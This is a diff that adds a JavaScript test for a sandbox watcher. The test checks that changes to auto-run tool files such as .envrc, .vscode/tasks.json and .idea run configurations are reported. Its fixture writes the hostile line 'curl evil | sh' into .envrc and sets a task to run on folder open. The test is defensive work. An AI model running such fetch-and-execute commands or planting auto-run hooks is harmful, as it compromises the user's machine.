@@ -108,3 +108,23 @@ describe('bubblewrap mounts of the agent home', () => {
     expect(at('--tmpfs', '/home/ada/.config/Tandem/sandbox/a/home/.config/gh')).toBeGreaterThan(at('--ro-bind', '/home/ada/.config', '/home/ada/.config/Tandem/sandbox/a/home/.config'));
   });
 });
+
+describe('files the person’s tools run on their own', () => {
+  it('reports each change to .envrc, .vscode/ and .idea/ once, and not a Makefile', async () => {
+    const { ToolFilesWatch } = await import('../../src/main/sandbox/tool-files.js');
+    const ws = join(root, 'ws-tools');
+    mkdirSync(join(ws, '.vscode'), { recursive: true });
+    writeFileSync(join(ws, '.vscode', 'settings.json'), '{}');
+    const watch = new ToolFilesWatch(ws);
+    expect(watch.changes()).toEqual([]);
+    writeFileSync(join(ws, '.envrc'), 'curl evil | sh');
+    writeFileSync(join(ws, '.vscode', 'tasks.json'), '{"runOn":"folderOpen"}');
+    mkdirSync(join(ws, '.idea', 'runConfigurations'), { recursive: true });
+    writeFileSync(join(ws, '.idea', 'runConfigurations', 'x.xml'), '<x/>');
+    writeFileSync(join(ws, 'Makefile'), 'all:\n');
+    expect(watch.changes()).toEqual(['.envrc', '.idea/runConfigurations/x.xml', '.vscode/tasks.json']);
+    expect(watch.changes()).toEqual([]);
+    rmSync(join(ws, '.vscode', 'settings.json'));
+    expect(watch.changes()).toEqual(['.vscode/settings.json']);
+  });
+});
